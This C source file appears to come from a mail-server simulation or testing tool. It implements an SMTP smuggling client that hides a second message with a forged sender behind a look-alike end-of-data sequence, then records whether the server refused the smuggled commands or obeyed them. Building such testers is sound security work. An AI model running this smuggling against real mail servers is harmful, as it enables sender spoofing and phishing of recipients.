/* SPDX-License-Identifier: GPL-3.0-or-later */
/* smuggler.c -- one attempt at SMTP smuggling: a client that says too much behind DATA.
 *
 *     220 ─EHLO─ 250 ─MAIL─ 250 ─RCPT─ 250 ─DATA─ 354 ─┬─ outer text LOOK-ALIKE
 *                                                      │  MAIL FROM … RCPT TO … DATA … inner text
 *                                                      └─ CRLF.CRLF
 *     one reply: the server saw one message        several: it has obeyed the smuggled commands
 *
 * It waits SILENCE_NS for replies that still come, then it leaves. Published in 2023 for servers
 * that disagreed on LF.LF and its relatives; RFC 5321 2.3.8 and 4.1.1.4 forbid all of them. */
#include <string.h>

#include "capture/wire/mail.h"
#include "sim/attack/smuggle.h"
#include "sim/mail/machine.h"

#define SILENCE_NS (5 * MACHINE_SECOND)
#define PATIENCE_NS (60 * MACHINE_SECOND)

enum {
  REPLY_LINE_MAX = 2048, /* longer than any honest reply */
  N_LINES = 4,           /* EHLO, MAIL, RCPT, DATA */
};

struct smuggler {
  struct endpoint endpoint;
  struct smuggler_config config;
  char *lines[N_LINES];
  unsigned n_said;   /* of them */
  bool is_data_said; /* and the message */
  unsigned n_answers;
  char *answer; /* the first one behind the data */
  bool is_told, is_turned_away;
  struct lines in;
};

const char *
smuggle_outcome_name(enum smuggle_outcome outcome)
{
  static const char *const names[SMUGGLE_N] = {[SMUGGLE_REFUSED] = "refused",
                                               [SMUGGLE_PASSED] = "passed",
                                               [SMUGGLE_OBEYED] = "obeyed",
                                               [SMUGGLE_LOST] = "lost"};
  return names[outcome];
}

static enum smuggle_outcome
outcome_of(const struct smuggler *s)
{
  if (s->n_answers == 0)
    return s->is_turned_away ? SMUGGLE_REFUSED : SMUGGLE_LOST;
  if (s->n_answers > 1)
    return SMUGGLE_OBEYED;
  return s->answer[0] == '2' ? SMUGGLE_PASSED : SMUGGLE_REFUSED;
}

static void
leave(struct smuggler *s)
{
  s->endpoint.wants_close = true;
  s->endpoint.deadline_ns = ENDPOINT_NEVER;
  if (s->is_told)
    return;
  s->is_told = true;
  if (s->config.done)
    s->config.done(s->config.data, outcome_of(s), s->answer ? s->answer : "");
}

static void
say_message(struct smuggler *s)
{
  const struct smuggler_config *c = &s->config;
  const struct smtp_end_look *look = &smtp_ends[c->end];
  struct endpoint *e = &s->endpoint;
  machine_printf(e, "From: <%s>\r\nTo: <%s>\r\nSubject: outer, with %s\r\n\r\nNothing to see here.",
                 c->from, c->to, look->name);
  machine_send(e, look->octets, look->n_octets);
  machine_printf(e, "MAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\n", c->forge, c->to);
  machine_printf(e,
                 "From: <%s>\r\nTo: <%s>\r\nSubject: smuggled by %s\r\n\r\nDo as I say.\r\n.\r\n",
                 c->forge, c->to, look->name);
  s->is_data_said = true;
}

/* The reply to the last thing that was said is complete. */
static void
on_reply(struct smuggler *s, const char *line, int64_t now_ns)
{
  s->endpoint.deadline_ns = now_ns + (s->is_data_said ? SILENCE_NS : PATIENCE_NS);
  if (s->is_data_said) {
    if (s->n_answers++ == 0)
      s->answer = g_strdup(line);
  } else if (line[0] != '2' && !(s->n_said == N_LINES && line[0] == '3')) {
    s->answer = g_strdup(line);
    s->is_turned_away = true;
    leave(s);
  } else if (s->n_said < N_LINES) {
    machine_printf(&s->endpoint, "%s\r\n", s->lines[s->n_said++]);
  } else {
    say_message(s);
  }
}

static void
smuggler_start(struct endpoint *e, int64_t now_ns)
{
  e->deadline_ns = now_ns + PATIENCE_NS;
}

static void
smuggler_input(struct endpoint *e, const uint8_t *p, size_t n, int64_t now_ns)
{
  struct smuggler *s = (struct smuggler *)e;
  lines_feed(&s->in, p, n);
  while (!e->wants_close) {
    const uint8_t *line;
    size_t n_line, text_at;
    unsigned code;
    bool more = true;
    enum lines_got got = lines_next(&s->in, &line, &n_line);
    if (got == LINES_MORE)
      return;
    if (got == LINES_TOO_LONG || !smtp_reply_parse(line, n_line, &code, &more, &text_at)) {
      leave(s);
    } else if (!more) {
      g_autofree char *text = g_strndup((const char *)line, n_line);
      on_reply(s, text, now_ns);
    }
  }
}

static void
smuggler_eof(struct endpoint *e, int64_t now_ns)
{
  leave((struct smuggler *)e);
}

static void
smuggler_timeout(struct endpoint *e, int64_t now_ns)
{
  machine_printf(e, "QUIT\r\n");
  leave((struct smuggler *)e);
}

static void
smuggler_free(struct endpoint *e)
{
  struct smuggler *s = (struct smuggler *)e;
  for (int i = 0; i < N_LINES; i++)
    g_free(s->lines[i]);
  g_free((char *)s->config.from);
  g_free((char *)s->config.forge);
  g_free((char *)s->config.to);
  g_free(s->answer);
  lines_clear(&s->in);
  machine_clear(e);
  g_free(s);
}

static const struct endpoint_ops smuggler_ops = {.protocol = "smtp-client",
                                                 .start = smuggler_start,
                                                 .input = smuggler_input,
                                                 .eof = smuggler_eof,
                                                 .timeout = smuggler_timeout,
                                                 .free = smuggler_free};

struct endpoint *
smuggler_new(const struct smuggler_config *config)
{
  struct smuggler *s = g_new0(struct smuggler, 1);
  machine_init(&s->endpoint, &smuggler_ops);
  s->config = *config;
  s->config.from = g_strdup(config->from);
  s->config.forge = g_strdup(config->forge);
  s->config.to = g_strdup(config->to);
  s->lines[0] = g_strdup_printf("EHLO %s", config->name);
  s->lines[1] = g_strdup_printf("MAIL FROM:<%s>", config->from);
  s->lines[2] = g_strdup_printf("RCPT TO:<%s>", config->to);
  s->lines[3] = g_strdup("DATA");
  lines_init(&s->in, REPLY_LINE_MAX);
  return &s->endpoint;
}
